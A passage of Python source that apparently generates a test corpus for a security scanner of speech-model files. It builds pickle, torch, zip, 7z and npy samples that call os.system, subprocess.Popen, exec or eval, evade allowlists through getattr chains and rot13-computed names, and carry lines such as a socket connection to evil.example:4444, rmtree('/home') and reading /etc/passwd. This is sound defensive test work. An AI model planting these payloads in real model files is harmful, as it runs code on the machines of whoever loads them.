        "phoneme_language": "en-us",
        "characters": {"characters_class": "TTS.tts.models.vits.VitsCharacters", "pad": "<PAD>", "eos": "<EOS>",
                       "bos": "<BOS>", "blank": "<BLNK>", "characters": "abcdefghijklmnopqrstuvwxyz",
                       "punctuations": "!'(),-.:;? ", "phonemes": None, "is_unique": False, "is_sorted": True},
        "datasets": [{"formatter": "ljspeech", "dataset_name": "ljspeech", "path": "LJSpeech-1.1/",
                      "meta_file_train": "metadata.csv", "ignored_speakers": None, "language": "en",
                      "meta_file_val": "", "meta_file_attn_mask": ""}],
        "model_args": {"num_chars": 131, "use_speaker_embedding": False, "speakers_file": None,
                       "use_d_vector_file": False, "d_vector_file": None, "speaker_encoder_model_path": "",
                       "speaker_encoder_config_path": ""},
        "speakers_file": "speakers.pth",
        "language_ids_file": None,
        "d_vector_file": None,
        "test_sentences": [["It took me quite a long time to develop a voice."]],
    }


def load_safetensors(p):
    data = open(p, "rb").read()
    n, = struct.unpack_from("<Q", data)
    header = json.loads(data[8:8 + n])
    meta = header.pop("__metadata__")
    body = data[8 + n:]
    out = {}
    end = 0
    for name, info in sorted(header.items(), key=lambda kv: kv[1]["data_offsets"]):
        a, b = info["data_offsets"]
        assert a == end, "offsets must be contiguous"
        end = b
        raw = bytearray(body[a:b])
        dt = {"F32": torch.float32, "BF16": torch.bfloat16, "I64": torch.int64}[info["dtype"]]
        out[name] = torch.frombuffer(raw, dtype=dt).reshape(info["shape"]) if raw else torch.empty(0, dtype=dt)
    assert end == len(body), "data must end at end of file"
    return (meta, dict(sorted(out.items())))


def load_7z(p):
    if shutil.which("7z") is None:
        print("note: 7z not installed; bundle.7z checked by the writer only", file=sys.stderr)
        return None
    out = {}
    listing = subprocess.run(["7z", "l", "-slt", p], check=True, capture_output=True, text=True).stdout
    names = [l[7:] for l in listing.splitlines() if l.startswith("Path = ")][1:]
    subprocess.run(["7z", "t", p], check=True, capture_output=True)
    for n in names:
        out[n] = subprocess.run(["7z", "x", "-so", p, n], check=True, capture_output=True).stdout
    return out


# --------------------------------------------------------------------------
# Malicious corpus


def gen_malicious(w):
    P = PB

    # --- calls through GLOBAL / STACK_GLOBAL / INST / OBJ to os, posix, nt, subprocess
    d, g = call_pickle("os", "system", ("id",))
    mal(w, "global_os_system.pkl", d, "GLOBAL os system + REDUCE", "pickle", **{
        "global": "os.system", "opcode": "GLOBAL", "offset": g})

    p = P(4)
    body = P().su("posix").op(P.MEMOIZE).su("system").op(P.MEMOIZE).at("g").op(P.STACK_GLOBAL, P.MEMOIZE) \
        .su("id").op(P.MEMOIZE, P.TUPLE1, P.MEMOIZE, P.REDUCE, P.MEMOIZE, P.STOP)
    p.frame(len(body.b))
    base = len(p.b)
    p.raw(body.bytes())
    mal(w, "stack_global_posix_system.pkl", p.bytes(), "protocol 4 (framed) STACK_GLOBAL posix system + REDUCE",
        "pickle", **{"global": "posix.system", "opcode": "STACK_GLOBAL", "offset": base + body.marks["g"]})

    p = P().op(P.MARK).u0("calc.exe").inst("nt", "system", "g").op(P.STOP)
    mal(w, "inst_nt_system.pkl", p.bytes(), "protocol 0 INST nt system (text pickle)", "pickle",
        **{"global": "nt.system", "opcode": "INST", "offset": p.marks["g"]})

    p = P(2).op(P.MARK).glob("subprocess", "Popen", "g").op(P.EMPTY_LIST).u("/bin/sh").op(P.APPEND) \
        .u("-c").op(P.APPEND).u("id").op(P.APPEND).op(P.OBJ, P.STOP)
    mal(w, "obj_subprocess_popen.pkl", p.bytes(), "MARK GLOBAL subprocess Popen args OBJ", "pickle",
        **{"global": "subprocess.Popen", "opcode": "GLOBAL", "offset": p.marks["g"]})

    # A real torch.save whose state dict carries a __reduce__ payload (what attacks look like).
    class Payload:
        def __reduce__(self):
            return (os.system, ("id",))

    sd = tiny_model().state_dict()
    sd["_hook"] = Payload()
    d = torch_save(sd)
    dp = dict(zip_records(d))["archive/data.pkl"]
    mal(w, "torch_zip_reduce_payload.pth", d, "torch.save zip whose state dict holds a __reduce__ to os.system",
        "zip", blob=dp, **{"global": "posix.system", "opcode": "GLOBAL", "offset": find_global(dp, "posix", "system"),
                           "member": "archive/data.pkl"})

    # --- builtins
    d, g = call_pickle("builtins", "exec", ("import os; os.system('id')",))
    mal(w, "builtins_exec.pkl", d, "builtins.exec", "pickle", **{"global": "builtins.exec", "opcode": "GLOBAL", "offset": g})
    d, g = call_pickle("__builtin__", "eval", ("__import__('os').system('id')",))
    mal(w, "builtin_eval_py2_name.pkl", d, "__builtin__.eval (protocol 2 name that fix_imports maps to builtins)",
        "pickle", **{"global": "__builtin__.eval", "opcode": "GLOBAL", "offset": g})
    d, g = call_pickle("builtins", "open", ("/etc/passwd",))
    mal(w, "builtins_open.pkl", d, "builtins.open", "pickle", **{"global": "builtins.open", "opcode": "GLOBAL", "offset": g})
    d, g = call_pickle("builtins", "__import__", ("antigravity",))
    mal(w, "builtins_import.pkl", d, "builtins.__import__ (import with side effects)", "pickle",
        **{"global": "builtins.__import__", "opcode": "GLOBAL", "offset": g})
    # getattr chain starting from an allowed global:
    # getattr(getattr(_rebuild_tensor_v2, '__globals__')['sys'].modules['os'], 'system')('id') spelled with
    # getattr and dict.get only. memo 0 = getattr, 1 = dict.get via getattr.
    p = P(2).glob("builtins", "getattr", "g").put(0).op(P.POP)
    # gl = getattr(torch._utils._rebuild_tensor_v2, '__globals__')
    p.get(0).glob("torch._utils", "_rebuild_tensor_v2").u("__globals__").op(P.TUPLE2, P.REDUCE).put(1).op(P.POP)
    # sys = getattr(gl, 'get')('sys')
    p.get(0).get(1).u("get").op(P.TUPLE2, P.REDUCE).u("sys").op(P.TUPLE1, P.REDUCE).put(2).op(P.POP)
    # mods = getattr(sys, 'modules'); os = getattr(mods, 'get')('os')
    p.get(0).get(0).get(2).u("modules").op(P.TUPLE2, P.REDUCE).u("get").op(P.TUPLE2, P.REDUCE) \
        .u("os").op(P.TUPLE1, P.REDUCE).put(3).op(P.POP)
    # getattr(os, 'system')('id')
    p.get(0).get(3).u("system").op(P.TUPLE2, P.REDUCE).u("id").op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "builtins_getattr_chain.pkl", p.bytes(),
        "builtins.getattr chain from the allowed torch._utils._rebuild_tensor_v2 to os.system", "pickle",
        **{"global": "builtins.getattr", "opcode": "GLOBAL", "offset": p.marks["g"]})

    # --- one file per dangerous module / function
    simple = [
        ("runpy_run_code.pkl", "runpy", "_run_code", ("import os; os.system('id')", {}), "runpy._run_code"),
        ("pip_main.pkl", "pip", "main", (["install", "--quiet", "evil-package"],), "pip.main"),
        ("webbrowser_open.pkl", "webbrowser", "open", ("https://evil.example/x",), "webbrowser.open"),
        ("socket_create_connection.pkl", "socket", "create_connection", (("evil.example", 4444),),
         "socket.create_connection"),
        ("shutil_rmtree.pkl", "shutil", "rmtree", ("/home",), "shutil.rmtree"),
        ("importlib_import_module.pkl", "importlib", "import_module", ("antigravity",), "importlib.import_module"),
        ("pydoc_locate.pkl", "pydoc", "locate", ("os.system",), "pydoc.locate (result called)"),
        ("pkgutil_resolve_name.pkl", "pkgutil", "resolve_name", ("os:system",), "pkgutil.resolve_name (result called)"),
        ("code_interact.pkl", "code", "interact", (), "code.interact"),
        ("multiprocessing_process.pkl", "multiprocessing", "Process", (), "multiprocessing.Process"),
        ("scanner_picklescan.pkl", "picklescan.scanner", "scan_pickle_bytes", (None, "x"),
         "import of a scanner module (picklescan)"),
        ("scanner_fickling.pkl", "fickling.analysis", "check_safety", (None,), "import of a scanner module (fickling)"),
        ("nested_torch_load.pkl", "torch", "load", ("/tmp/evil.pt",), "nested loader torch.load"),
        ("nested_numpy_load.pkl", "numpy", "load", ("/tmp/evil.npy", None, True), "nested loader numpy.load"),
        ("nested_joblib_load.pkl", "joblib", "load", ("/tmp/evil.joblib",), "nested loader joblib.load"),
    ]
    for name, m, q, args, tech in simple:
        d, g = call_pickle(m, q, args)
        if name in ("pydoc_locate.pkl", "pkgutil_resolve_name.pkl"):
            p = P(2).glob(m, q, "g").args(args).op(P.REDUCE).u("id").op(P.TUPLE1, P.REDUCE, P.STOP)
            d, g = p.bytes(), p.marks["g"]
        mal(w, name, d, tech, "pickle", **{"global": f"{m}.{q}", "opcode": "GLOBAL", "offset": g})

    # operator.attrgetter / methodcaller applied to allowed globals
    p = P(2).glob("operator", "attrgetter", "g").u("__globals__").op(P.TUPLE1, P.REDUCE) \
        .glob("torch._utils", "_rebuild_tensor_v2").op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "operator_attrgetter.pkl", p.bytes(), "operator.attrgetter('__globals__') applied to an allowed global",
        "pickle", **{"global": "operator.attrgetter", "opcode": "GLOBAL", "offset": p.marks["g"]})
    p = P(2).glob("operator", "methodcaller", "g").u("__subclasses__").op(P.TUPLE1, P.REDUCE) \
        .glob("torch", "Tensor").op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "operator_methodcaller.pkl", p.bytes(), "operator.methodcaller('__subclasses__') on an allowed global",
        "pickle", **{"global": "operator.methodcaller", "opcode": "GLOBAL", "offset": p.marks["g"]})

    # functools.partial(os.system, 'id')()
    p = P(2).glob("functools", "partial", "g").glob("os", "system", "g2").u("id").op(P.TUPLE2, P.REDUCE) \
        .op(P.EMPTY_TUPLE, P.REDUCE, P.STOP)
    mal(w, "functools_partial.pkl", p.bytes(), "functools.partial(os.system, 'id')()", "pickle",
        **{"global": "functools.partial", "opcode": "GLOBAL", "offset": p.marks["g"],
           "also": [{"global": "os.system", "opcode": "GLOBAL", "offset": p.marks["g2"]}]})

    # types.CodeType + types.FunctionType
    co = compile("import os; os.system('id')", "<x>", "exec")
    code_args = (co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals, co.co_stacksize,
                 co.co_flags, co.co_code, co.co_consts, co.co_names, co.co_varnames, co.co_filename, co.co_name,
                 co.co_qualname, co.co_firstlineno, co.co_linetable, co.co_exceptiontable, co.co_freevars,
                 co.co_cellvars)
    p = P(3).glob("types", "FunctionType", "g2").glob("types", "CodeType", "g").args(code_args).op(P.REDUCE) \
        .op(P.EMPTY_DICT, P.TUPLE2, P.REDUCE, P.EMPTY_TUPLE, P.REDUCE, P.STOP)
    mal(w, "types_codetype.pkl", p.bytes(), "types.CodeType builds bytecode, types.FunctionType runs it", "pickle",
        **{"global": "types.CodeType", "opcode": "GLOBAL", "offset": p.marks["g"],
           "also": [{"global": "types.FunctionType", "opcode": "GLOBAL", "offset": p.marks["g2"]}]})

    # nested loaders with the inner payload as bytes
    inner, _ = call_pickle("os", "system", ("id",))
    p = P(3).glob("pickle", "loads", "g").bb(inner).op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "nested_pickle_loads.pkl", p.bytes(), "nested loader pickle.loads of an os.system pickle", "pickle",
        **{"global": "pickle.loads", "opcode": "GLOBAL", "offset": p.marks["g"]})
    inner_zip = torch_save({"x": Payload()})
    p = P(3).glob("torch.storage", "_load_from_bytes", "g").bb(inner_zip).op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "nested_torch_load_from_bytes.pkl", p.bytes(),
        "nested loader torch.storage._load_from_bytes of a torch zip with a payload", "pickle",
        **{"global": "torch.storage._load_from_bytes", "opcode": "GLOBAL", "offset": p.marks["g"]})

    # --- dotted names through harmless modules (protocol 4: GLOBAL and STACK_GLOBAL resolve dotted paths)
    p = P(4).glob("torch", "os.system", "g").su("id").op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "dotted_global_torch_os_system.pkl", p.bytes(), "GLOBAL 'torch' 'os.system' (dotted path, protocol 4)",
        "pickle", **{"global": "torch.os.system", "opcode": "GLOBAL", "offset": p.marks["g"]})
    p = P(4).su("torch.serialization").su("pickle.loads").at("g").op(P.STACK_GLOBAL).bb(inner) \
        .op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "dotted_stack_global_serialization_pickle.pkl", p.bytes(),
        "STACK_GLOBAL 'torch.serialization' 'pickle.loads' (nested loader reached through torch)", "pickle",
        **{"global": "torch.serialization.pickle.loads", "opcode": "STACK_GLOBAL", "offset": p.marks["g"]})
    # dict.get(torch._utils._rebuild_tensor_v2.__globals__, 'sys') -> the sys module
    p = P(4).su("builtins").su("dict.get").at("g2").op(P.STACK_GLOBAL) \
        .su("torch._utils").su("_rebuild_tensor_v2.__globals__").at("g").op(P.STACK_GLOBAL) \
        .su("sys").op(P.TUPLE2, P.REDUCE, P.STOP)
    mal(w, "dotted_dunder_after_allowed.pkl", p.bytes(),
        "dotted names extending allowed globals: torch._utils._rebuild_tensor_v2.__globals__ and builtins.dict.get",
        "pickle", **{"global": "torch._utils._rebuild_tensor_v2.__globals__", "opcode": "STACK_GLOBAL",
                     "offset": p.marks["g"],
                     "also": [{"global": "builtins.dict.get", "opcode": "STACK_GLOBAL", "offset": p.marks["g2"]}]})

    # --- module name computed at run time: _codecs.encode('bf', 'rot13') == 'os' (both calls allowed)
    p = P(4).glob("_codecs", "encode").put(0).su("bf").su("rot13").op(P.TUPLE2, P.REDUCE) \
        .get(0).su("flfgrz").su("rot13").op(P.TUPLE2, P.REDUCE).at("sg").op(P.STACK_GLOBAL) \
        .su("id").op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "computed_module_name.pkl", p.bytes(),
        "STACK_GLOBAL whose module and name are results of calls (_codecs.encode rot13 gives 'os', 'system')",
        "pickle", **{"global": None, "opcode": "STACK_GLOBAL", "offset": p.marks["sg"],
                     "rule_hint": "STACK_GLOBAL operands are not constant strings (results of REDUCE): critical"})

    # --- memo tricks
    p = P(2).glob("os", "system", "g").put(7).op(P.POP).op(P.EMPTY_DICT).put(1) \
        .u("weights").glob("collections", "OrderedDict").op(P.EMPTY_TUPLE, P.REDUCE, P.SETITEM) \
        .u("hook").get(7).u("id").op(P.TUPLE1, P.REDUCE, P.SETITEM, P.STOP)
    mal(w, "memo_put_pop_get.pkl", p.bytes(), "global memoized, popped, fetched later with BINGET and called",
        "pickle", **{"global": "os.system", "opcode": "GLOBAL", "offset": p.marks["g"]})
    p = P(2).glob("collections", "OrderedDict").put(3).op(P.POP).glob("posix", "system", "g").put(3).op(P.POP) \
        .get(3).u("id").op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "memo_overwrite.pkl", p.bytes(), "memo slot first holds an allowed global, then is overwritten by posix.system",
        "pickle", **{"global": "posix.system", "opcode": "GLOBAL", "offset": p.marks["g"]})

    # --- EXT opcodes after copyreg.add_extension
    p = P(2).glob("copyreg", "add_extension", "ga").u("os").u("system").i(240).op(P.TUPLE3, P.REDUCE, P.POP) \
        .at("e").raw(b"\x82" + bytes([240])).u("id").op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "ext1_after_add_extension.pkl", p.bytes(), "copyreg.add_extension('os','system',240) then EXT1 240",
        "pickle", **{"global": "os.system", "opcode": "EXT1", "offset": p.marks["e"],
                     "also": [{"global": "copyreg.add_extension", "opcode": "GLOBAL", "offset": p.marks["ga"]}]})
    p = P(2).glob("copyreg", "add_extension", "ga").u("subprocess").u("getoutput").i(0x1234) \
        .op(P.TUPLE3, P.REDUCE, P.POP).at("e").raw(b"\x83" + struct.pack("<H", 0x1234)).u("id") \
        .op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "ext2_after_add_extension.pkl", p.bytes(),
        "copyreg.add_extension('subprocess','getoutput',0x1234) then EXT2", "pickle",
        **{"global": "subprocess.getoutput", "opcode": "EXT2", "offset": p.marks["e"],
           "also": [{"global": "copyreg.add_extension", "opcode": "GLOBAL", "offset": p.marks["ga"]}]})
    p = P(2).at("e").raw(b"\x84" + struct.pack("<i", 0x5EED)).u("id").op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "ext4_unregistered.pkl", p.bytes(), "EXT4 with a code registered nowhere in the stream, result called",
        "pickle", **{"global": None, "opcode": "EXT4", "offset": p.marks["e"],
                     "rule_hint": "EXT4 code 0x5eed has no add_extension in the stream: the global is unknown "
                                  "(depends on the loading process's copyreg registry); its call must be a finding"})

    # --- FRAME lengths that lie
    body = P().su("posix").su("system").at("g").op(P.STACK_GLOBAL).su("id").op(P.TUPLE1, P.REDUCE, P.STOP)
    p = P(4).at("f").frame(len(body.b) + 64).raw(body.bytes())
    mal(w, "frame_too_long.pkl", p.bytes(), "protocol 4 FRAME claims 64 bytes more than the file holds", "pickle",
        verdict="unscannable", **{"global": None, "opcode": "FRAME", "offset": p.marks["f"],
                                  "rule_hint": "FRAME length exceeds the remaining bytes (truncated frame)"})
    cut = body.marks["g"] - 3  # inside SHORT_BINUNICODE 'system'
    p = P(4).at("f").frame(cut).raw(body.bytes())
    # ttsguard reports the lying FRAME (high) and decodes on as the C unpickler does, so the payload is named too.
    mal(w, "frame_too_short.pkl", p.bytes(),
        "protocol 4 FRAME ends inside an opcode (C unpickler runs it, pickle.py refuses)", "pickle",
        verdict="unsafe", **{"global": None, "opcode": "FRAME", "offset": p.marks["f"],
                                  "rule_hint": f"opcode crosses the FRAME boundary at offset {11 + cut}"})

    # --- payload followed by a corrupt stream
    p = P(2).glob("os", "system", "g").u("id").op(P.TUPLE1, P.REDUCE).raw(b"\xff\xfe garbage")
    mal(w, "corrupt_after_payload.pkl", p.bytes(), "os.system call, then an invalid opcode (0xff) before any STOP",
        "pickle", verdict="unscannable", **{"global": "os.system", "opcode": "GLOBAL", "offset": p.marks["g"],
                                             "rule_hint": "invalid opcode 0xff after the call: findings before it are kept"})

    # --- stacked: benign pickle then malicious one
    benign = pickle.dumps(collections.OrderedDict([("w", [1.0, 2.0])]), protocol=2)
    d, g = call_pickle("os", "system", ("id",))
    mal(w, "stacked_benign_then_payload.pkl", benign + d, "a benign pickle followed by an os.system pickle",
        "pickle", **{"global": "os.system", "opcode": "GLOBAL", "offset": len(benign) + g})

    # --- raw pickle named like a checkpoint
    d = pickle.dumps({"model": collections.OrderedDict([("w", [0.5, 0.25])]), "step": 10, "hook": Payload()},
                     protocol=2)
    mal(w, "model_raw_pickle.pth", d, "raw protocol-2 pickle named model.pth (state dict plus __reduce__ payload)",
        "pickle", **{"global": "posix.system", "opcode": "GLOBAL", "offset": find_global(d, "posix", "system")})

    # --- payloads in zip members with non-pickle names
    base_zip = torch_save(tiny_model().state_dict())
    recs = [(n[len("archive/"):], b) for n, b in zip_records(base_zip) if n != "archive/version"]
    extra, g = call_pickle("os", "system", ("id",))
    d = torch_zip(recs + [("extra.txt", extra)])
    mal(w, "zip_member_extra_txt.pth", d, "torch zip with an extra member archive/extra.txt that is an os.system pickle",
        "zip", blob=extra, **{"global": "os.system", "opcode": "GLOBAL", "offset": g, "member": "archive/extra.txt"})
    payload, g = call_pickle("os", "system", ("id",))
    d = torch_save({"blob": torch.frombuffer(bytearray(payload), dtype=torch.uint8)})
    assert dict(zip_records(d))["archive/data/0"] == payload
    mal(w, "zip_member_tensor_data.pth", d,
        "real torch.save of a uint8 tensor whose bytes (archive/data/0) are an os.system pickle", "zip",
        blob=payload, **{"global": "os.system", "opcode": "GLOBAL", "offset": g, "member": "archive/data/0"})

    # --- zip anomalies (on a real torch zip)
    good = torch_save(tiny_model().state_dict())
    ents = {e["name"]: e for e in zip_central(good)}
    d = bytearray(good)
    d[ents["archive/data/0"]["data"] + 1] ^= 0x40
    mal(w, "zip_crc_error.pth", bytes(d), "torch zip with a tensor byte changed after the CRC was written", "zip",
        **{"global": None, "member": "archive/data/0", "rule_hint": "CRC-32 of archive/data/0 does not match"})
    d = bytearray(good)
    e = ents["archive/data.pkl"]
    lo = e["local"] + 30
    assert d[lo:lo + 16] == b"archive/data.pkl"
    d[lo:lo + 16] = b"archive/safe.txt"
    mal(w, "zip_name_mismatch.pth", bytes(d),
        "local header names archive/safe.txt, central directory names archive/data.pkl", "zip",
        **{"global": None, "member": "archive/data.pkl",
           "rule_hint": "local/central name mismatch (local archive/safe.txt)"})
    d = bytearray(good)
    for pos in (e["local"] + 6, e["central"] + 8):
        struct.pack_into("<H", d, pos, struct.unpack_from("<H", d, pos)[0] | 1)
    mal(w, "zip_encrypted_flag.pth", bytes(d), "general-purpose flag bit 0 (encrypted) set on archive/data.pkl",
        "zip", **{"global": None, "member": "archive/data.pkl",
                  "rule_hint": "flag bits 0x0809: encryption bit set (torch writes 0x0808)"})
    # duplicate names: a benign data.pkl and a malicious one, both named archive/data.pkl
    sdm = tiny_model().state_dict()
    good_recs = [(n[len("archive/"):], b) for n, b in zip_records(torch_save(sdm)) if n != "archive/version"]
    sdm["_hook"] = Payload()
    evil_pkl = dict(zip_records(torch_save(sdm)))["archive/data.pkl"]
    d = bytearray(torch_zip(good_recs + [("data.pkZ", evil_pkl)]))
    for ent in zip_central(bytes(d)):
        if ent["name"] == "archive/data.pkZ":
            for pos in (ent["local"] + 30, ent["central"] + 46):
                assert d[pos:pos + 16] == b"archive/data.pkZ"
                d[pos:pos + 16] = b"archive/data.pkl"
    mal(w, "zip_duplicate_names.pth", bytes(d),
        "two members named archive/data.pkl: the first benign, the second with a posix.system payload", "zip",
        blob=evil_pkl, **{"global": "posix.system", "opcode": "GLOBAL",
                          "offset": find_global(evil_pkl, "posix", "system"), "member": "archive/data.pkl",
                          "rule_hint": "duplicate member name archive/data.pkl (the payload is in the second)"})
    prefix = b"JUNK" * 16
    mal(w, "zip_bytes_before_first_entry.pth", prefix + good, "64 bytes before the first local header", "zip",
        **{"global": None, "rule_hint": "bytes before the first zip entry (64)"})

    # --- legacy formats with the payload outside the first pickle
    sdl = tiny_model().state_dict()
    sys_payload = P(2).op(P.EMPTY_DICT).u("protocol_version").i(PROTOCOL_VERSION).op(P.SETITEM) \
        .u("little_endian").raw(b"\x88").op(P.SETITEM).u("probe").glob("os", "system", "g").u("id") \
        .op(P.TUPLE1, P.REDUCE, P.SETITEM, P.STOP)
    d, sec = legacy_raw(sdl, sys_info_pickle=sys_payload.bytes())
    mal(w, "legacy_raw_sys_info_payload.pth", d, "legacy raw checkpoint with os.system in the sys_info pickle",
        "torch-legacy", **{"global": "os.system", "opcode": "GLOBAL", "offset": sec["sys_info"] + sys_payload.marks["g"]})

    def keys_payload(keys):
        kp = P(2).glob("posix", "system", "g").u("id").op(P.TUPLE1, P.REDUCE, P.POP).raw(pickle.dumps(keys, 2)[2:])
        keys_payload.g = kp.marks["g"]
        return kp.bytes()

    d, sec = legacy_raw(sdl, keys_pickle=keys_payload)
    mal(w, "legacy_raw_storage_keys_payload.pth", d,
        "legacy raw checkpoint with posix.system in the storage-keys pickle after the data pickle", "torch-legacy",
        **{"global": "posix.system", "opcode": "GLOBAL", "offset": sec["keys"] + keys_payload.g})
    cnt = P(2).glob("os", "system", "g").u("id").op(P.TUPLE1, P.REDUCE, P.POP).i(len(sdl)).op(P.STOP)
    d, members = legacy_tar(sdl, storages_count_pickle=cnt.bytes())
    mal(w, "legacy_tar_storages_payload.pth", d,
        "legacy tar checkpoint with os.system in the storage-count pickle of the storages member", "tar",
        blob=members["storages"], **{"global": "os.system", "opcode": "GLOBAL", "offset": cnt.marks["g"],
                                     "member": "storages"})

    # --- 7z
    d7, g = call_pickle("os", "system", ("id",))
    cfgb = (json.dumps(clean_config()) + "\n").encode()
    mal(w, "sevenzip_pickle.7z", sevenzip([("config.json", cfgb), ("model.pkl", d7)]),
        "7z holding a clean config.json and an os.system pickle", "7z", blob=d7,
        **{"global": "os.system", "opcode": "GLOBAL", "offset": g, "member": "model.pkl"})
    inner = torch_save(dict(tiny_model().state_dict(), _hook=Payload()))
    ip = dict(zip_records(inner))["archive/data.pkl"]
    mal(w, "sevenzip_torch_zip.7z", sevenzip([("model.pth", inner)]), "7z holding a torch zip with a payload", "7z",
        blob=ip, **{"global": "posix.system", "opcode": "GLOBAL", "offset": find_global(ip, "posix", "system"),
                    "member": "model.pth!archive/data.pkl"})

    # --- object-dtype .npy and .npz
    pk, g = call_pickle("os", "system", ("id",), proto=3)
    hdr = npy_header("|O", (1,))
    mal(w, "object_array.npy", hdr + pk, "object-dtype .npy whose pickle calls os.system", "npy", pstart=len(hdr),
        **{"global": "os.system", "opcode": "GLOBAL", "offset": len(hdr) + g})
    npy_evil = hdr + pk
    rng = np.random.default_rng(3)
    d = plain_zip([("weights.npy", npy_bytes(rng.standard_normal(8).astype(np.float32))), ("payload.npy", npy_evil)],
                  zip64=True)
    mal(w, "object_member.npz", d, ".npz whose second member is an object-dtype .npy calling os.system", "zip",
        blob=npy_evil, pstart=len(hdr), **{"global": "os.system", "opcode": "GLOBAL", "offset": len(hdr) + g, "member": "payload.npy"})

    # --- out-of-bounds tensor rebuilds
    raw16 = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)

    def oob(name, storage_numel, offset, size, stride, tech, hint, at="REDUCE"):
        # A tensor past its storage is reported at the rebuild (REDUCE); a storage
        # larger than its record at the storage reference (BINPERSID).
        st = FakeStorage("0", torch.FloatStorage, storage_numel)
        dp = fake_data_pkl({"w": FakeTensor(st, offset, size, stride)})
        ops, _ = genops_all(dp)
        red = [pos for pos, n, _ in ops if n == at][-1]
        d = torch_zip([("data.pkl", dp), ("data/0", raw16)])
        mal(w, name, d, tech, "zip", blob=dp,
            **{"global": None, "opcode": at, "offset": red, "member": "archive/data.pkl", "rule_hint": hint})

    # a correct one first, to prove the hand-made data.pkl is what torch expects
    st = FakeStorage("0", torch.FloatStorage, 4)
    ok = torch_zip([("data.pkl", fake_data_pkl({"w": FakeTensor(st, 1, (3,), (1,))})), ("data/0", raw16)])
    assert torch.equal(torch.load(io.BytesIO(ok))["w"], torch.tensor([2.0, 3.0, 4.0]))
    oob("oob_storage_offset.pth", 4, 2, (4,), (1,), "_rebuild_tensor_v2 with storage_offset 2 + 4 elements > 4",
        "storage_offset + extent (2 + 4) exceeds storage numel 4")
    oob("oob_stride.pth", 4, 0, (2, 2), (100, 1), "_rebuild_tensor_v2 with stride (100, 1) over a 4-element storage",
        "extent 1 + 1*100 + 1*1 = 102 exceeds storage numel 4")
    oob("oob_storage_numel.pth", 1000, 0, (10,), (1,),
        "storage numel 1000 (4000 bytes) but archive/data/0 holds 16 bytes",
        "storage numel 1000 x 4 bytes exceeds the 16 bytes of archive/data/0", at="BINPERSID")

    # --- TorchScript archive
    d = torchscript_bytes()
    mal(w, "torchscript_module.pt", d, "torch.jit.save of a tiny scripted module (code/, constants.pkl)", "zip",
        **{"global": None, "member": "archive/constants.pkl",
           "rule_hint": "TorchScript archive: archive/code/ and archive/constants.pkl members"})

    # --- expansion bombs
    p = P(2).op(P.EMPTY_LIST).put(0).op(P.POP)
    for k in range(1, 65):
        p.op(P.MARK).get(k - 1).get(k - 1).op(b"l").put(k).op(P.POP)  # LIST: a_k = [a_{k-1}, a_{k-1}]
    p.get(64).op(P.STOP)
    mal(w, "bomb_memo_billion_laughs.pkl", p.bytes(),
        "billion laughs: 64 levels of [a, a] through BINGET (2^64 leaves when expanded)", "pickle",
        **{"global": None, "rule_hint": "memo expansion bomb: logical size 2^64; must be reported or stopped by a "
                                         "limit, never expanded"})
    p = P(2).op(P.EMPTY_LIST)
    for _ in range(64):
        p.op(P.DUP, P.TUPLE2)
    p.op(P.STOP)
    mal(w, "bomb_dup_tuple2.pkl", p.bytes(), "DUP + TUPLE2 doubling 64 times (2^64 leaves when expanded)", "pickle",
        **{"global": None, "rule_hint": "DUP expansion bomb: logical size 2^64; must be reported or stopped by a "
                                         "limit, never expanded"})
    p = P(2).op(P.EMPTY_LIST).put(0).op(P.POP)
    for k in range(1, 41):
        p.op(P.EMPTY_LIST).put(k).op(P.MARK)
        for _ in range(4):
            p.get(k - 1)
        p.op(P.APPENDS, P.POP)
    p.get(40).op(P.STOP)
    mal(w, "bomb_appends_fanout.pkl", p.bytes(), "40 levels of lists holding 4 references each via APPENDS (4^40)",
        "pickle", **{"global": None, "rule_hint": "memo/APPENDS expansion bomb: logical size 4^40"})

    # --- non-ASCII and non-UTF-8 module names
    d, g = call_pickle("\u043es", "system", ("id",))  # Cyrillic o
    mal(w, "non_ascii_module.pkl", d, "GLOBAL with a Cyrillic 'о' in 'оs'", "pickle",
        **{"global": "\u043es.system", "opcode": "GLOBAL", "offset": g})
    p = P(2).glob(b"os\xff", b"system", "g").u("id").op(P.TUPLE1, P.REDUCE, P.STOP)
    mal(w, "invalid_utf8_module.pkl", p.bytes(), "GLOBAL whose module name is not valid UTF-8", "pickle",
        verdict="unscannable", **{"global": None, "opcode": "GLOBAL", "offset": p.marks["g"],
                                  "rule_hint": "GLOBAL module name is not UTF-8 (CPython refuses to load it)"})

    # --- safetensors with a pickle after the data
    w1 = np.arange(4, dtype=np.float32)
    st_ok = safetensors_bytes([("w", "F32", (4,), w1.tobytes())], {"format": "pt"})
    pk, g = call_pickle("os", "system", ("id",))
    mal(w, "safetensors_trailing_pickle.safetensors", st_ok + pk,
        "valid safetensors header and data followed by an os.system pickle", "safetensors",
        **{"global": None, "offset": len(st_ok),
           "rule_hint": f"data does not end at end of file: {len(pk)} trailing bytes (a pickle calling os.system "
                        f"with its GLOBAL at file offset {len(st_ok) + g})"})

    # --- coqui config.json files that are unsafe
    def badcfg(name, mutate, field, tech, hint):
        c = clean_config()
        mutate(c)
        d = (json.dumps(c, indent=4) + "\n").encode()
        rel = "malicious/" + name
        w.write(rel, d)
        record(rel, "unsafe", tech, "text", **{"global": None, "field": field, "rule_hint": hint})

    badcfg("config_absolute_stats_path.json", lambda c: c["audio"].update(stats_path="/tmp/scale_stats.npy"),
           "audio.stats_path", "absolute audio.stats_path (np.load(allow_pickle=True) of any file)", "absolute path")
    badcfg("config_speakers_file_traversal.json", lambda c: c.update(speakers_file="../../etc/speakers.pth"),
           "speakers_file", "speakers_file escaping the model folder", "path escapes the model folder")
    badcfg("config_d_vector_file_url.json",
